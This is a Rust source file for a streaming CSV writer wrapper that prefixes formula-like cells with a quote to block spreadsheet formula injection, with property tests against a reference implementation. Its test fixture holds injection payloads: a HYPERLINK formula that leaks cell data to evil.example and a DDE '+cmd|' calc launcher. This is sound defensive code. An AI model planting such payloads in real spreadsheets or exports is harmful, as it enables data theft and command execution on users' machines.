//! [`CellGuard`]: the CSV cells' neutralisation ([`super::neutralise`]) applied to the bytes a
//! CSV writer produces, streaming.

use super::{needs_quote_bytes, CellPolicy};

/// Where a [`CellGuard`] is within the CSV it is passed.
#[derive(Debug, Clone, Copy, PartialEq)]
enum At {
    /// Before a field's first byte.
    FieldStart,
    /// After a quoted field's opening quote, before its first content byte.
    ContentStart,
    /// Inside a field that needs no look at its end.
    Passing,
    /// Inside a field that starts like a formula: held until it ends, to tell `-1.5` from `-x`.
    Holding,
}

/// An [`std::io::Write`] between a `csv::Writer` and its file that neutralises cells
/// ([`super::neutralise`]) in the bytes the CSV writer produces, so every table gets it whichever
/// way its rows are written (records or serde). It follows the CSV writer's own output
/// (`,` delimiter, `"` quotes, any terminator), passing most bytes straight through; only a
/// field that starts with a formula character is held until its end.
///
/// Buffers are scanned, not walked byte by byte: inside a field only its end (`,` or a
/// terminator outside quotes) or a quote of a quoted field can change anything, so the bytes
/// up to the next of those are found with `memchr` and every run of untouched bytes goes out
/// in one write. The output does not depend on how the bytes are split into writes.
pub struct CellGuard<W: std::io::Write> {
    inner: W,
    policy: CellPolicy,
    at: At,
    quoted: bool,
    in_quotes: bool,
    held: Vec<u8>,
}

impl<W: std::io::Write> CellGuard<W> {
    pub fn new(inner: W) -> Self {
        CellGuard {
            inner,
            policy: CellPolicy::current(),
            at: At::FieldStart,
            quoted: false,
            in_quotes: false,
            held: Vec::new(),
        }
    }

    /// The writer underneath, as it is: after a record, all of it has been passed on.
    pub fn get_ref(&self) -> &W {
        &self.inner
    }

    /// The writer underneath. Every record the CSV writer wrote ends with a terminator, so
    /// nothing is held back by then.
    pub fn into_inner(self) -> W {
        self.inner
    }

    fn end_of_field(&self, b: u8) -> bool {
        !self.in_quotes && matches!(b, b',' | b'\n' | b'\r')
    }

    /// How many bytes at the start of `buf`, inside a field, change nothing: all up to the
    /// next possible end of field in an unquoted field (its `"` are plain text), up to the
    /// next `"` inside quotes. Just after a quote of a quoted field, none (rare: the byte is
    /// looked at on its own).
    fn plain_len(&self, buf: &[u8]) -> usize {
        let next = match (self.quoted, self.in_quotes) {
            (false, _) => memchr::memchr3(b',', b'\n', b'\r', buf),
            (true, true) => memchr::memchr(b'"', buf),
            (true, false) => Some(0),
        };
        next.unwrap_or(buf.len())
    }

    /// Decide on a held field (its end byte not included) and write it out. In a quoted field
    /// the closing quote is not content; its doubled quotes (`""`) are left as they are,
    /// because a cell with a `"` is never a number and its leading bytes (all that is looked
    /// at otherwise) are the same before and after unescaping.
    fn release(&mut self) -> std::io::Result<()> {
        let content: &[u8] = if self.quoted {
            self.held.strip_suffix(b"\"").unwrap_or(&self.held)
        } else {
            &self.held
        };
        if needs_quote_bytes(content) {
            self.inner.write_all(b"'")?;
        }
        self.inner.write_all(&self.held)?;
        self.held.clear();
        Ok(())
    }
}

impl<W: std::io::Write> std::io::Write for CellGuard<W> {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        if self.policy == CellPolicy::Raw {
            return self.inner.write(buf);
        }
        // buf[run..i] passes through unchanged and is not written yet. While a field is held,
        // its bytes go to `held` instead and nothing is pending.
        let mut run = 0;
        let mut i = 0;
        while i < buf.len() {
            if matches!(self.at, At::Passing | At::Holding) {
                let plain = self.plain_len(&buf[i..]);
                if self.at == At::Holding {
                    self.held.extend_from_slice(&buf[i..i + plain]);
                }
                i += plain;
                if i == buf.len() {
                    break;
                }
            }
            let b = buf[i];
            if self.at == At::FieldStart {
                self.quoted = b == b'"';
                self.at = At::ContentStart;
                if self.quoted {
                    self.in_quotes = true;
                    i += 1;
                    continue;
                }
            }
            if self.at == At::ContentStart {
                let formula = matches!(b, b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r' | b'\'');
                if formula && (self.quoted || b != b'\r') {
                    self.at = At::Holding;
                    self.inner.write_all(&buf[run..i])?;
                } else {
                    self.at = At::Passing;
                }
            }
            if b == b'"' && self.quoted {
                self.in_quotes = !self.in_quotes;
            }
            let end = self.end_of_field(b);
            if self.at == At::Holding {
                if !end {
                    self.held.push(b);
                    i += 1;
                    continue;
                }
                self.release()?;
                run = i;
            }
            if end {
                self.at = At::FieldStart;
                self.quoted = false;
            }
            i += 1;
        }
        if self.at != At::Holding {
            self.inner.write_all(&buf[run..])?;
        }
        Ok(buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::super::{needs_quote, restore};
    use super::*;

    fn through_guard(rows: &[Vec<&str>]) -> Vec<u8> {
        let mut w = csv::Writer::from_writer(CellGuard::new(Vec::new()));
        for r in rows {
            w.write_record(r).unwrap();
        }
        w.into_inner().ok().unwrap().into_inner()
    }

    #[test]
    fn the_guard_neutralises_cells_in_csv_bytes_and_reading_restores_them() {
        let rows = vec![
            vec!["id", "title", "n"],
            vec![
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                "+cmd|' /C calc'!A0",
                "-0.250000",
            ],
            vec!["a,b", "\tTab", "-x"],
            vec!["'=x", "plain \"quoted\" text", ""],
            vec!["multi\nline", "=a\nb", "@"],
        ];
        let bytes = through_guard(&rows);
        let text = String::from_utf8(bytes.clone()).unwrap();
        assert!(text.contains("\"'=HYPERLINK(\"\"http"), "{text}");
        assert!(text.contains(",'+cmd|' /C calc'!A0,-0.250000\n"), "{text}");
        let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[..]);
        let back: Vec<Vec<String>> = r
            .records()
            .map(|rec| rec.unwrap().iter().map(|f| f.to_string()).collect())
            .collect();
        for (got, want) in back.iter().zip(&rows) {
            // What a spreadsheet sees: no cell that starts a formula.
            for g in got {
                assert!(!needs_quote(g) || g.starts_with('\''), "{g:?}");
            }
            let restored: Vec<&str> = got.iter().map(|g| restore(g)).collect();
            assert_eq!(&restored, want);
        }
        assert_eq!(back.len(), rows.len());
    }

    /// The guard as it was before it scanned whole buffers (one byte at a time, held fields
    /// unescaped and decided on their lossy text): what the fast one must write, byte for byte.
    struct ByteGuard {
        out: Vec<u8>,
        at: At,
        quoted: bool,
        in_quotes: bool,
        held: Vec<u8>,
    }

    impl ByteGuard {
        fn run(input: &[u8]) -> Vec<u8> {
            let mut g = ByteGuard {
                out: Vec::new(),
                at: At::FieldStart,
                quoted: false,
                in_quotes: false,
                held: Vec::new(),
            };
            input.iter().for_each(|&b| g.byte(b));
            g.out
        }

        fn release(&mut self) {
            let content: Vec<u8> = if self.quoted {
                let inner = self.held.strip_suffix(b"\"").unwrap_or(&self.held);
                String::from_utf8_lossy(inner).replace("\"\"", "\"").into_bytes()
            } else {
                self.held.clone()
            };
            if needs_quote(&String::from_utf8_lossy(&content)) {
                self.out.push(b'\'');
            }
            self.out.append(&mut self.held);
        }

        fn byte(&mut self, b: u8) {
            if self.at == At::FieldStart {
                self.quoted = b == b'"';
                if self.quoted {
                    self.in_quotes = true;
                    self.at = At::ContentStart;
                    return self.out.push(b);
                }
                self.at = At::ContentStart;
            }
            if self.at == At::ContentStart {
                if matches!(b, b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r' | b'\'') && (self.quoted || b != b'\r') {
                    self.at = At::Holding;
                } else {
                    self.at = At::Passing;
                }
            }
            if b == b'"' && self.quoted {
                self.in_quotes = !self.in_quotes;
            }
            let end = !self.in_quotes && matches!(b, b',' | b'\n' | b'\r');
            if self.at == At::Holding {
                if end {
                    self.release();
                } else {
                    return self.held.push(b);
                }
            }
            if end {
                self.at = At::FieldStart;
                self.quoted = false;
            }
            self.out.push(b);
        }
    }

    /// `input` through a [`CellGuard`] in writes of the given sizes (cycled; the rest in one).
    fn guarded_in_chunks(input: &[u8], sizes: &[usize]) -> Vec<u8> {
        use std::io::Write;
        let mut g = CellGuard {
            policy: CellPolicy::Neutralise,
            ..CellGuard::new(Vec::new())
        };
        let mut rest = input;
        for &n in sizes.iter().cycle().take(input.len()) {
            let (now, later) = rest.split_at(n.min(rest.len()));
            g.write_all(now).unwrap();
            rest = later;
        }
        g.write_all(rest).unwrap();
        g.into_inner()
    }

    /// Bytes the guard reacts to, often, among a few plain ones and some that are not UTF-8.
    fn csv_byte() -> impl proptest::strategy::Strategy<Value = u8> {
        proptest::sample::select(b"=+-@\t\r\n'\",,,\"0123.5eEax \xc3\xa9\xff".to_vec())
    }

    proptest::proptest! {
        #[test]
        fn the_guard_writes_the_same_bytes_however_a_csv_is_split_into_writes(
            rows in proptest::collection::vec(
                proptest::collection::vec("[-=+@\t\r\n'\",0-9.eEab ]{0,10}", 1..5),
                1..12,
            ),
            sizes in proptest::collection::vec(1usize..40, 1..8),
        ) {
            // Rows of different widths: the writers must not insist on equal lengths.
            let mut raw = csv::WriterBuilder::new().flexible(true).from_writer(Vec::new());
            for r in &rows {
                raw.write_record(r).unwrap();
            }
            let raw = raw.into_inner().ok().unwrap();
            let whole = guarded_in_chunks(&raw, &[]);
            proptest::prop_assert_eq!(&guarded_in_chunks(&raw, &sizes), &whole);
            proptest::prop_assert_eq!(&ByteGuard::run(&raw), &whole);
            // And as the tables use it: the CSV writer's own writes into the guard.
            let mut w = csv::WriterBuilder::new().flexible(true).from_writer(CellGuard {
                policy: CellPolicy::Neutralise,
                ..CellGuard::new(Vec::new())
            });
            for r in &rows {
                w.write_record(r).unwrap();
            }
            proptest::prop_assert_eq!(&w.into_inner().ok().unwrap().into_inner(), &whole);
        }

        #[test]
        fn the_guard_matches_the_byte_at_a_time_guard_on_any_bytes(
            input in proptest::collection::vec(csv_byte(), 0..300),
            sizes in proptest::collection::vec(1usize..40, 1..8),
        ) {
            let want = ByteGuard::run(&input);
            proptest::prop_assert_eq!(&guarded_in_chunks(&input, &[]), &want);
            proptest::prop_assert_eq!(&guarded_in_chunks(&input, &sizes), &want);
        }
    }
}
